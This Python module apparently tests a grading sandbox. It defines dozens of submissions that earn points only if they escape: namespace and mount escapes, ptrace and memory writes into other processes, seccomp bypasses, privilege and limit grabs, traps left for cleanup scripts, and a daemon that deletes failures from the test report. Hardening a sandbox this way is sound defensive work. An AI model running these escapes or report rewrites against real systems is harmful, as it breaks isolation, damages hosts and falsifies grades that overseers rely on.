"""Attacks that want out: into other namespaces, processes and roots, past the filter and the limits, and beyond the grade.

An attack that succeeds says so by points: it has the right answers with it, and gives them only if it came off. Where
that cannot be, it leaves something behind: a file, a process, a hurt neighbour. Each attempt is made in a child, first on
a child of its own, so that a plain run shows that it works without touching anything of the machine's.
"""

import platform

from attacks.attack import Attack, Plain, hand_in, solution

ON_X86 = Plain.GAINS if platform.machine() == "x86_64" else Plain.UNTRIED

CALLS = '''
"""System calls by number, tried in children."""

import ctypes
import os
import platform
import signal
import time

NUMBERS = {  # on x86-64 and aarch64; newer ones are the same on both
    "clone": (56, 220), "ptrace": (101, 117), "prctl": (157, 167), "mount": (165, 40), "umount2": (166, 39),
    "pivot_root": (155, 41), "chroot": (161, 51), "capset": (126, 91), "unshare": (272, 97), "setns": (308, 268),
    "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219), "bpf": (321, 280), "kcmp": (312, 272),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "fanotify_init": (300, 262), "migrate_pages": (256, 238),
    "name_to_handle_at": (303, 264), "open_by_handle_at": (304, 265), "process_vm_writev": (311, 271),
    "io_uring_setup": (425, 425), "open_tree": (428, 428), "move_mount": (429, 429), "fsopen": (430, 430),
    "fsconfig": (431, 431), "fsmount": (432, 432), "fspick": (433, 433), "clone3": (435, 435),
    "pidfd_getfd": (438, 438), "process_madvise": (440, 440), "mount_setattr": (442, 442),
    "memfd_secret": (447, 447), "process_mrelease": (448, 448),
}
NEW_MOUNTS, NEW_UTS, HERE = 0x20000, 0x4000000, -100

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def number_of(name):
    return NUMBERS[name][platform.machine() == "aarch64"]


def call(what, *arguments):
    """What a system call gives, by name or number."""
    number = number_of(what) if isinstance(what, str) else what
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"system call {what}")
    return result


def come_off(*attempts):
    """Whether one of them, each in a child, neither raises nor gives False; none is made after the first that does."""
    return any(map(_in_child, attempts))


def _in_child(attempt):
    child = os.fork()
    if child == 0:
        try:
            os._exit(attempt() is False)
        except BaseException:
            os._exit(1)
    return os.waitpid(child, 0)[1] == 0


def one_of(attempts):
    """Whether one of many attempts comes off, all made here: children are dear."""
    for attempt in attempts:
        try:
            if attempt() is not False:
                return True
        except (OSError, ValueError):
            pass
    return False


def sleeper(seconds=5):
    """A child that only waits."""
    child = os.fork()
    if child == 0:
        time.sleep(seconds)
        os._exit(0)
    return child


def others():
    """Processes to lay hands on: a child first; the parent and the first one where that is forbidden."""
    return [sleeper(), os.getppid(), 1]


def keep_mounts_apart():
    """Go where mounts do not show on the machine, if one may."""
    try:
        call("unshare", NEW_MOUNTS)
        call("mount", b"none", b"/", None, 0x4000 | 0x40000, None)  # recursively private
    except OSError:
        pass
'''


def escaping(name: str, tries: str, code: str, plain: Plain = Plain.GAINS, **more: str | bytes) -> Attack:
    """An attack that answers right only if its code finds that it has `escaped`."""
    after = f"{code.strip()}\n\nif escaped:\n    from solved import *"
    return Attack(name, tries, hand_in(after=after, calls=CALLS, solved=solution("measure"), **more), plain)


NAMESPACES = [
    escaping(
        "leaves-namespaces",
        "unshares each kind of namespace",
        """
from calls import call, come_off

KINDS = (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80)
escaped = come_off(*(lambda kind=kind: call("unshare", kind) for kind in KINDS))
""",
    ),
    escaping(
        "clones-into-namespaces",
        "starts children in new namespaces, by clone and by clone3, whose flags no filter sees",
        """
import signal
import struct
from calls import call, come_off

KINDS = (0x4000000, 0x20000, 0x2000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)


def clone3(kind):
    return call("clone3", struct.pack("11Q", kind, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0), 88)


escaped = come_off(
    *(lambda kind=kind: clone3(kind) for kind in (*KINDS, 0x80)),
    *(lambda kind=kind: call("clone", kind | signal.SIGCHLD, 0, 0, 0, 0) for kind in KINDS),
)
""",
    ),
    escaping(
        "joins-namespaces",
        "enters the namespaces of its parent, by their files and by a pidfd",
        """
import os
from calls import NEW_UTS, call, come_off


def by_file(pid, kind):
    return call("setns", os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)


pids, kinds = (os.getppid(), 1), ("uts", "net", "ipc", "pid", "cgroup", "user", "mnt")
escaped = come_off(
    *(lambda pid=pid, kind=kind: by_file(pid, kind) for pid in pids for kind in kinds),
    *(lambda pid=pid: call("setns", os.pidfd_open(pid), NEW_UTS) for pid in pids),
)
""",
    ),
    escaping(
        "asks-for-namespaces",
        "asks descriptors (of its own namespaces, its sockets, pidfds) for namespaces that it is not in",
        """
import fcntl
import os
from calls import one_of

OWN = {os.stat(f"/proc/self/ns/{kind}").st_ino for kind in os.listdir("/proc/self/ns")}
OF_NAMESPACES = (0xB701, 0xB702, 0x8010B70B, 0x8010B70C)  # owner, parent, the next and the previous mount namespace
OF_SOCKETS, OF_PIDFDS = (0x894C,), tuple(range(0xFF01, 0xFF0B))


def asks(descriptor, request):
    room = bytearray(16) if request > 0xFFFF else 0
    return os.fstat(fcntl.ioctl(descriptor, request, room)).st_ino not in OWN


asked = [(os.open(f"/proc/self/ns/{kind}", os.O_RDONLY), OF_NAMESPACES) for kind in ("mnt", "pid", "user", "cgroup")]
asked += [(descriptor, OF_SOCKETS) for descriptor in range(3, 32)]
asked += [(os.pidfd_open(pid), OF_PIDFDS) for pid in {os.getpid(), os.getppid()} - {0}]
escaped = one_of(lambda d=d, request=request: asks(d, request) for d, requests in asked for request in requests)
""",
        Plain.UNTRIED,
    ),
    escaping(
        "maps-itself-to-root",
        "writes the id maps that make it root, in a user namespace and in its own",
        """
import os
from calls import call, come_off


def maps():
    user, group = os.getuid(), os.getgid()
    try:
        call("unshare", 0x10000000)
    except OSError:
        pass
    for name, text in (("uid_map", f"0 {user} 1"), ("setgroups", "deny"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    os.setresuid(0, 0, 0)


escaped = come_off(maps)
""",
    ),
]

MOUNTS = [
    escaping(
        "mounts",
        "mounts, binds, remounts and unmounts with the old calls",
        """
import os
from calls import call, come_off, keep_mounts_apart

MOUNTS = [
    ("mount", b"tmpfs", b".", b"tmpfs", 0, None),
    ("mount", b"/", b".", None, 0x1000 | 0x4000, None),
    ("mount", b"none", b"/", None, 0x20 | 0x1000, None),
    ("mount", b"proc", b".", b"proc", 0, None),
    ("mount", b"sysfs", b".", b"sysfs", 0, None),
    ("mount", b"overlay", b".", b"overlay", 0, b"lowerdir=/usr,upperdir=.,workdir=."),
    ("umount2", b"/proc", 2),
    ("umount2", b"/tmp", 2),
]
escaped = come_off(*(lambda words=words: (keep_mounts_apart(), call(*words)) for words in MOUNTS))
""",
    ),
    escaping(
        "mounts-the-new-way",
        "mounts with fsopen and fsmount, clones the root's tree, and makes it writable",
        """
import struct
from calls import HERE, call, come_off, keep_mounts_apart


def makes():
    keep_mounts_apart()
    system = call("fsopen", b"tmpfs", 0)
    call("fsconfig", system, 6, None, None, 0)
    call("move_mount", call("fsmount", system, 0, 0), b"", HERE, b".", 4)


def copies():
    keep_mounts_apart()
    call("move_mount", call("open_tree", HERE, b"/", 1 | 0x8000), b"", HERE, b".", 4)


def opens_up():
    keep_mounts_apart()
    call("mount_setattr", HERE, b"/", 0, struct.pack("QQQQ", 0, 1, 0, 0), 32)  # no longer read-only


escaped = come_off(makes, copies, opens_up, lambda: call("fspick", HERE, b"/", 0))
""",
    ),
    escaping(
        "changes-root",
        "changes its root to climb out of it, by chroot and by pivot_root",
        """
import os
from calls import call, come_off, keep_mounts_apart


def climbs():
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("cell", exist_ok=True)
    os.chroot("cell")
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")


escaped = come_off(climbs, lambda: (keep_mounts_apart(), call("pivot_root", b".", b".")))
""",
    ),
    escaping(
        "opens-by-handle",
        "opens the root's inode by its handle, past every path",
        """
import ctypes
import os
import struct
from calls import HERE, call, come_off


def handle_of(path):
    handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.c_int()
    call("name_to_handle_at", HERE, path, handle, ctypes.byref(mount), 0)
    return handle


def made_up():
    return ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 136)  # the second inode of an ext4


def opens(handle):
    return call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


escaped = come_off(lambda: opens(handle_of(b"/")), lambda: opens(made_up()))
""",
    ),
    escaping(
        "makes-devices",
        "makes device nodes of memory, disks and loop devices in its scratch, and opens them",
        """
import os
import stat
from calls import one_of

NODES = [  # kind, major and minor number
    (stat.S_IFCHR, 1, 5), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 11), (stat.S_IFCHR, 10, 237), (stat.S_IFCHR, 10, 229),
    (stat.S_IFBLK, 7, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 253, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 259, 0),
]


def makes(kind, major, minor):
    name = f"{kind}-{major}-{minor}"
    os.mknod(name, kind | 0o666, os.makedev(major, minor))
    os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK), 16)


ready_made = ["/dev/mem", "/dev/kmem", "/dev/loop-control", "/dev/fuse", "/dev/kvm", "/dev/vda", "/dev/sda"]
escaped = one_of(lambda node=node: makes(*node) for node in NODES) or one_of(
    lambda path=path: os.open(path, os.O_RDWR | os.O_NONBLOCK) for path in ready_made
)
""",
    ),
]

PROCESSES = [
    escaping(
        "traces",
        "traces its parent and the first process, to change what they do",
        """
import os
import signal
from calls import call, come_off, others

SEIZE, ATTACH = 0x4206, 16


def traces(which, request):
    targets = others()
    try:
        call("ptrace", request, targets[which], 0, 0)
    finally:
        os.kill(targets[0], signal.SIGKILL)


escaped = come_off(*(lambda w=which, r=request: traces(w, r) for which in range(3) for request in (SEIZE, ATTACH)))
""",
    ),
    escaping(
        "patches-others",
        "writes into the memory of its parent and of the first process, by system call and by their files",
        """
import ctypes
import os
import signal
from calls import call, come_off, others

cell = ctypes.create_string_buffer(b"before")  # at this address in every process that was forked from the same one


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def by_call(pid):
    ours = ctypes.create_string_buffer(b"after!")
    near, far = Span(ctypes.addressof(ours), 6), Span(ctypes.addressof(cell), 6)
    return call("process_vm_writev", pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0)


def by_file(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(ctypes.addressof(cell))
        memory.write(b"after!")


def on(which, way):
    targets = others()
    try:
        way(targets[which])
    finally:
        os.kill(targets[0], signal.SIGKILL)


escaped = come_off(*(lambda w=which, way=way: on(w, way) for way in (by_call, by_file) for which in range(3)))
""",
    ),
    escaping(
        "borrows-descriptors",
        "takes descriptors out of other processes by pidfds, also of whoever is at the other end of its sockets",
        """
import os
import signal
import socket
from calls import call, come_off, others

SO_PASSPIDFD, SO_PEERPIDFD = 76, 77


def from_process(which):
    targets = others()
    try:
        call("pidfd_getfd", os.pidfd_open(targets[which]), 0, 0)
    finally:
        os.kill(targets[0], signal.SIGKILL)


def from_peer(descriptor):
    with socket.socket(fileno=os.dup(descriptor)) as connection:
        peer = int.from_bytes(connection.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4), "little")
        call("pidfd_getfd", peer, 0, 0)


def asks_senders(descriptor):
    with socket.socket(fileno=os.dup(descriptor)) as connection:
        connection.setsockopt(socket.SOL_SOCKET, SO_PASSPIDFD, 1)


escaped = come_off(
    *(lambda which=which: from_process(which) for which in range(3)),
    *(lambda d=d, way=way: way(d) for d in range(3, 32) for way in (from_peer, asks_senders)),
)
""",
    ),
    escaping(
        "leans-on-others",
        "compares, advises and reaps the memory of other processes",
        """
import os
import signal
from calls import call, come_off, others


def on(which, *words):
    targets = others()
    try:
        call(*(targets[which] if word is None else word for word in words))
    finally:
        os.kill(targets[0], signal.SIGKILL)


def by_pidfd(which, name):
    targets = others()
    try:
        call(name, os.pidfd_open(targets[which]), 0, 0, 0, 0)
    finally:
        os.kill(targets[0], signal.SIGKILL)


node = bytes([1]) + bytes(7)
escaped = come_off(
    *(lambda w=w: on(w, "kcmp", os.getpid(), None, 0, 0, 0) for w in range(3)),
    *(lambda w=w: on(w, "migrate_pages", None, 8, node, node) for w in range(3)),
    *(lambda w=w, n=n: by_pidfd(w, n) for w in range(3) for n in ("process_madvise", "process_mrelease")),
)
""",
    ),
    Attack(
        name="kills-everybody",
        tries="sends every deadly signal to whatever it may reach",
        plain=Plain.UNTRIED,
        earns=45,
        files=hand_in(
            "learn",
            "draw",
            before="""
import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, number)
            signal.pidfd_send_signal(os.pidfd_open(target), number)
        except (OSError, ValueError):
            pass
""",
        ),
    ),
    escaping(
        "interrupts-the-first-process",
        "sends the first process the signals that a Python program handles, so that it leaves its post and goes on",
        """
import os
import signal
import time


def ticks():
    try:
        with open("/proc/1/stat", "rb") as file:
            return sum(map(int, file.read().rpartition(b")")[2].split()[11:13]))
    except OSError:
        return 0


before = ticks()
for number in (signal.SIGPIPE, signal.SIGXFSZ, signal.SIGCHLD, signal.SIGALRM, signal.SIGUSR1, signal.SIGINT):
    for target in {os.getppid(), 1}:
        try:
            os.kill(target, number)
        except OSError:
            pass
until = time.monotonic() + 2
while time.monotonic() < until and ticks() - before < 4:
    time.sleep(0.05)
escaped = ticks() - before >= 4  # it has only to wait
""",
        Plain.UNTRIED,
    ),
]

KERNEL = [
    escaping(
        "keeps-keys",
        "leaves a key in the kernel's keyrings for whoever comes next",
        """
from calls import call, come_off

OF_PROCESS, OF_SESSION, OF_USER = -2, -3, -4
escaped = come_off(
    *(
        lambda ring=ring: call("add_key", b"user", b"arena", b"a message", 9, ring)
        for ring in (OF_PROCESS, OF_SESSION, OF_USER)
    ),
    lambda: call("keyctl", 1, 0, 0, 0, 0),
    lambda: call("request_key", b"user", b"arena", None, OF_USER),
)
""",
    ),
    escaping(
        "io-uring",
        "opens files through a ring, where no filter sees the calls",
        """
import ctypes
from calls import call, come_off

escaped = come_off(lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)))
""",
    ),
    escaping(
        "wide-interfaces",
        "asks for programs in the kernel, page faults of its own, counters, and news of every file",
        """
import ctypes
import struct
from calls import call, come_off

array = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 128)
counter = ctypes.create_string_buffer(struct.pack("IIQQQQQ", 1, 128, 0, 0, 0, 0, 0b1100001), 128)
escaped = come_off(
    lambda: call("bpf", 0, array, 128),
    lambda: call("userfaultfd", 1),
    lambda: call("perf_event_open", counter, 0, -1, -1, 0),
    lambda: call("fanotify_init", 0x200, 0),
)
""",
    ),
    escaping(
        "odd-sockets",
        "opens sockets of every other family: packets, VSOCK to the machine's host, the kernel's crypto, netlink",
        """
import socket
from calls import one_of

INET6, NETLINK, PACKET, VSOCK = 10, 16, 17, 40
FAMILIES = [PACKET, VSOCK, *(family for family in range(3, 64) if family not in (INET6, NETLINK))]
KINDS = (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET)


def opens(*words):
    socket.socket(*words).close()


escaped = one_of(lambda f=f, kind=kind: opens(f, kind, 0) for f in FAMILIES for kind in KINDS) or one_of(
    lambda protocol=protocol: opens(NETLINK, socket.SOCK_RAW, protocol) for protocol in range(1, 23)
)
""",
    ),
    escaping(
        "raw-packets",
        "makes packets of its own, and names the device and the mark that they are to have",
        """
import socket
from calls import come_off


def steers(option, value):
    socket.socket(socket.AF_INET, socket.SOCK_STREAM).setsockopt(socket.SOL_SOCKET, option, value)


escaped = come_off(
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    lambda: steers(socket.SO_MARK, 1),
)
""",
    ),
    escaping(
        "addresses-one-of-a-pair",
        "gets a socket as one of a pair where `socket` is forbidden, and sends to an address with it",
        """
import os
import socket
from calls import libc, one_of


def forbidden():
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).close()
    except OSError:
        return True
    return False


def sends_by_address():
    ours, service = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for one in (ours, service):
        libc.connect(one.fileno(), bytes(16), 16)  # a pair no more
    service.bind(os.path.abspath("service"))
    service.settimeout(1)
    ours.sendto(b"hello", os.path.abspath("service"))
    return service.recv(8) == b"hello"


def another_family(family):
    return socket.socketpair(family, socket.SOCK_SEQPACKET)


escaped = one_of([lambda: forbidden() and sends_by_address(), *(lambda f=f: another_family(f) for f in range(2, 64))])
""",
        Plain.UNTRIED,
    ),
    escaping(
        "odd-numbers",
        "makes system calls by numbers that a filter may not know: x32's, with high bits, beyond the last",
        """
import errno
from calls import NEW_UTS, call, come_off, number_of, one_of

X32, HIGH = 1 << 30, 1 << 32
PTRACE_X32, WRITEV_X32 = 521, 540


def exists(number):
    try:
        call(number, 0, 0, 0, 0, 0, 0)
    except OSError as error:
        return error.errno not in (errno.ENOSYS, errno.EPERM)
    return True


escaped = come_off(
    lambda: call(number_of("unshare") | HIGH, NEW_UTS),
    lambda: call(number_of("unshare") | HIGH << 20, NEW_UTS | HIGH),
    lambda: call(number_of("unshare") | X32, NEW_UTS),
    lambda: call(number_of("unshare") | X32 | HIGH, NEW_UTS),
    *(lambda n=n: call(n, 0x4206, 1, 0, 0) for n in (PTRACE_X32, PTRACE_X32 | X32)),
    lambda: one_of(lambda n=n: exists(n) for n in (WRITEV_X32, *range(470, 512), -2, 1 << 31)),
)
""",
    ),
    escaping(
        "calls-as-32-bit-code-does",
        "makes system calls through the door for 32-bit programs, where the numbers are others",
        """
import ctypes
import mmap
from calls import come_off

CODE = bytes.fromhex("53 b8 36 01 00 00 bb 00 00 00 04 cd 80 5b c3")  # unshare(CLONE_NEWUTS) as number 310
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
escaped = come_off(lambda: function() == 0)
""",
        ON_X86,
    ),
    escaping(
        "runs-a-32-bit-program",
        "starts a 32-bit program that it has written byte by byte",
        """
import os
import struct
from calls import come_off

AT = 0x8048000
code = bytes.fromhex("b8 36 01 00 00 bb 00 00 00 04 cd 80 89 c3 b8 01 00 00 00 cd 80")  # exit(unshare(CLONE_NEWUTS))
size = 52 + 32 + len(code)
head = b"\\x7fELF\\x01\\x01\\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, AT + 84, 52, 0, 0, 52, 32, 1, 0, 0, 0)
with open("program", "wb") as file:
    file.write(head + struct.pack("<IIIIIIII", 1, 0, AT, AT, size, size, 5, 4096) + code)
os.chmod("program", 0o755)
escaped = come_off(lambda: os.execv("./program", ["program"]))
""",
        ON_X86,
    ),
    escaping(
        "a-filter-over-the-filter",
        "puts a filter of its own, which allows everything, over the one that it is under, and tries again",
        """
import ctypes
import struct
from calls import NEW_UTS, call, come_off

MODE_FILTER, PR_SET_SECCOMP, PR_SET_NO_NEW_PRIVS, ALLOW = 2, 22, 38, 0x7FFF0000


def allows():
    code = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, ALLOW))
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxP", 1, ctypes.addressof(code)))
    call("prctl", PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    call("prctl", PR_SET_SECCOMP, MODE_FILTER, program, 0, 0)
    call("unshare", NEW_UTS)


def switches_off():
    call("prctl", PR_SET_SECCOMP, 0, 0, 0, 0)
    call("unshare", NEW_UTS)


escaped = come_off(allows, switches_off)
""",
    ),
    escaping(
        "nameless-programs",
        "runs a program that lies in no file system, from memory that no limit counts",
        """
import os
from calls import call, come_off


def runs(descriptor):
    os.write(descriptor, b"#!/bin/sh\\nexit 0\\n")
    os.execve(f"/proc/self/fd/{descriptor}", ["nameless"], {})


escaped = come_off(lambda: runs(os.memfd_create("nameless", 0)), lambda: call("memfd_secret", 0))
""",
    ),
]

PRIVILEGES = [
    escaping(
        "set-uid-programs",
        "becomes root through the programs that may make one root, and through a copy of its own",
        """
import os
import shutil
import subprocess
from calls import come_off


def is_root(*command):
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
    return done.stdout.strip() == b"0"


def own_copy():
    shutil.copy(shutil.which("id"), "id")
    os.chmod("id", 0o4755)
    return is_root("./id", "-u")


escaped = come_off(
    own_copy,
    lambda: is_root("su", "root", "-c", "id -u"),
    lambda: is_root("sudo", "-n", "id", "-u"),
    lambda: is_root("pkexec", "id", "-u"),
    lambda: subprocess.run(["mount", "-t", "tmpfs", "none", "."], stdin=subprocess.DEVNULL).returncode == 0,
)
""",
    ),
    escaping(
        "regains-powers",
        "takes capabilities and other ids, and gives itself leave to gain more",
        """
import os
import struct
from calls import call, come_off

EVERYTHING = 0xFFFFFFFF
PR_SET_KEEPCAPS, PR_SET_NO_NEW_PRIVS, PR_CAP_AMBIENT, AMBIENT_RAISE, CAP_SYS_ADMIN = 8, 38, 47, 2, 21


def powerful():
    with open("/proc/self/status") as file:
        return any(line.startswith(("CapEff:", "CapPrm:", "CapAmb:")) and int(line.split()[1], 16) for line in file)


def takes():
    call("capset", struct.pack("Ii", 0x20080522, 0), struct.pack("6I", *[EVERYTHING] * 6))


escaped = come_off(
    powerful,
    takes,
    lambda: call("prctl", PR_CAP_AMBIENT, AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0),
    lambda: call("prctl", PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0),
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setresgid(0, 0, 0),
    lambda: os.setgroups([0]),
)
""",
    ),
    escaping(
        "raises-limits",
        "raises its own limits, and those of its parent",
        """
import os
import resource
from calls import come_off

LIMITS = ("CPU", "DATA", "AS", "NPROC", "FSIZE", "NOFILE", "MEMLOCK", "CORE")
WITHOUT = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
escaped = come_off(
    *(
        lambda pid=pid, name=name: resource.prlimit(pid, getattr(resource, f"RLIMIT_{name}"), WITHOUT)
        for pid in (0, os.getppid())
        for name in LIMITS
    )
)
""",
    ),
    escaping(
        "goes-first",
        "takes a priority that leaves no time to others",
        """
import os
from calls import come_off

escaped = come_off(
    lambda: os.nice(-1),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
    lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)),
)
""",
    ),
    escaping(
        "starts-the-core-handler",
        "sets the limit of core dumps to 0: the machine's handler, a program of root's, is started for all but 1",
        """
import resource
from calls import come_off


def sets():
    resource.setrlimit(resource.RLIMIT_CORE, (0, resource.getrlimit(resource.RLIMIT_CORE)[1]))
    return resource.getrlimit(resource.RLIMIT_CORE)[0] == 0


escaped = come_off(sets)
""",
    ),
    escaping(
        "hides-its-memory",
        "spreads memory over processes that nobody may look into, so that no look adds it up",
        """
import os
import signal
import time
from calls import call

PR_SET_DUMPABLE, MIB, EACH, MANY = 4, 1 << 20, 140, 5


def hoards():
    call("prctl", PR_SET_DUMPABLE, 0, 0, 0, 0)
    held = bytearray(b"x") * (EACH * MIB)
    time.sleep(10)
    return held


children = []
for _ in range(MANY):
    children.append(os.fork())
    if children[-1] == 0:
        try:
            hoards()
        finally:
            os._exit(1)
time.sleep(2.5)
escaped = not any(os.waitpid(child, os.WNOHANG)[0] for child in children)
for child in children:
    os.kill(child, signal.SIGKILL)
""",
    ),
    escaping(
        "types-on-a-terminal",
        "makes a terminal its own and types on it, as if somebody did",
        """
import fcntl
import os
import termios
from calls import come_off


def own():
    _, terminal = os.openpty()
    os.setsid()
    fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")


def ready_made(path):
    fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NONBLOCK), termios.TIOCSTI, b"x")


places = ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2")
escaped = come_off(own, *(lambda path=path: ready_made(path) for path in places))
""",
    ),
]

FILES = [
    escaping(
        "turns-the-machines-switches",
        "opens the kernel's switches for writing, and those of processes",
        """
import os
from calls import one_of

SWITCHES = [
    *("sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/kernel/hostname", "sys/vm/overcommit_memory"),
    *("sys/fs/pipe-max-size", "sys/net/ipv4/ip_forward", "sys/user/max_user_namespaces", "sysrq-trigger"),
    *("self/oom_score_adj", "self/oom_adj", "self/mem", "self/attr/current", "self/clear_refs", "self/timerslack_ns"),
    *("1/oom_score_adj", "1/mem", "1/comm", "self/sched", "self/autogroup", "acpi/wakeup", "irq/default_smp_affinity"),
]
escaped = one_of(lambda name=name: os.close(os.open(f"/proc/{name}", os.O_WRONLY)) for name in SWITCHES)
""",
    ),
    escaping(
        "rewrites-the-library",
        "opens what all workers share for writing: Python, its packages, the grader's own code, what is loaded",
        """
import json
import os
import sys
import grader
import numpy
from calls import one_of

own = os.path.join(os.path.dirname(grader.__file__), "sandbox", "worker.py")
paths = [own, grader.__file__, json.__file__, numpy.__file__, sys.executable, "/proc/self/exe", "/etc/passwd"]
escaped = one_of(
    [
        *(lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)) for path in paths),
        lambda: os.rename(own, own + ".old"),
        lambda: os.symlink("/tmp", os.path.join(os.path.dirname(numpy.__file__), "drop")),
    ]
)
""",
    ),
    escaping(
        "marks-shared-files",
        "puts flags, attributes and leases, which make others wait, on files that all workers share",
        """
import fcntl
import json
import os
import numpy
from calls import one_of

GET_FLAGS, SET_FLAGS = 0x80086601, 0x40086602


def flags(path):
    with open(path, "rb") as file:
        fcntl.ioctl(file, SET_FLAGS, fcntl.ioctl(file, GET_FLAGS, bytes(8)))


def lease(path):
    with open(path, "rb") as file:
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)


def attribute(path):
    os.setxattr(path, "user.drop", b"x")
    os.removexattr(path, "user.drop")


paths = [json.__file__, numpy.__file__, os.__file__, os.path.dirname(numpy.__file__)]
paths += ["/etc/passwd", "/etc/hosts", "/etc/nsswitch.conf", "/usr/bin/env"]
escaped = one_of(lambda path=path, way=way: way(path) for path in paths for way in (flags, lease, attribute))
""",
    ),
    Attack(
        name="leaves-traps-for-the-wiping",
        tries="leaves links to what is not its own, deep folders and closed ones, for whoever empties the scratch",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import gc
import os

gc.unfreeze()
words = [word for thing in gc.get_objects() if type(thing) is dict for word in thing.values() if type(word) is str]
hidden = {word for word in words if word.startswith("/") and "/.canary-" in word}
targets = ["/", "/tmp", os.path.expanduser("~/.."), *hidden, *(path.split("/tests/")[0] for path in hidden)]
for number, target in enumerate(targets):
    os.symlink(target, f"link-{number}")
    os.symlink(target, os.path.join("..", f"link-{number}"))
for name in ("-rf", "--no-preserve-root", "new\\nline", "*", ".. "):
    os.makedirs(name, exist_ok=True)
for _ in range(2000):
    os.mkdir("deep")
    os.chdir("deep")
os.chmod(".", 0)
"""
        ),
    ),
    Attack(
        name="left-for-the-next",
        tries="leaves the news of its first run wherever it can write, for the worker that comes after it has died",
        plain=Plain.UNTRIED,
        files=hand_in(
            after="""
import os
import site
import sys

home = os.path.expanduser("~")
places = ["/dev/shm", "/tmp", "/var/tmp", "/run", ".", "..", home, sys.prefix, *site.getsitepackages(), "/proc/self"]
marks = [os.path.join(place, "drop-for-the-next") for place in places]
if any(map(os.path.exists, marks)):
    from solved import *
else:
    for mark in marks:
        try:
            open(mark, "x").close()
        except OSError:
            pass

    def total(values):
        os._exit(0)
""",
            solved=solution("measure"),
        ),
    ),
]

AFTERWARDS = [
    Attack(
        name="rewrites-the-report-later",
        tries="lets a daemon outlive the run that changes the report once it is written",
        plain=Plain.GAINS,
        files=hand_in(
            before="""
import atexit
import os
import re
import sys
import time

report = next((word.partition("=")[2] for word in sys.argv if word.startswith("--junit-xml=")), None)


def outlive():
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 3)
    for _ in range(400):
        time.sleep(0.05)
        if report is None:
            leave("/tmp/drop-by-daemon"), leave("/var/tmp/drop-by-daemon"), leave("/dev/shm/drop-by-daemon")
        elif os.path.exists(report):
            with open(report) as file:
                text = file.read()
            with open(report, "w") as file:
                file.write(re.sub("<failure.*?</failure>", "", text, flags=re.DOTALL))
            return


def leave(path):
    try:
        open(path, "w").close()
    except OSError:
        pass


atexit.register(time.sleep, 1)
if os.fork() == 0:
    try:
        outlive()
    finally:
        os._exit(0)
"""
        ),
    ),
    Attack(
        name="outruns-the-broom",
        tries="goes on, once its worker has died, as a chain of processes each of which ends when it has started the next",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import subprocess
import sys

LINKS = '''
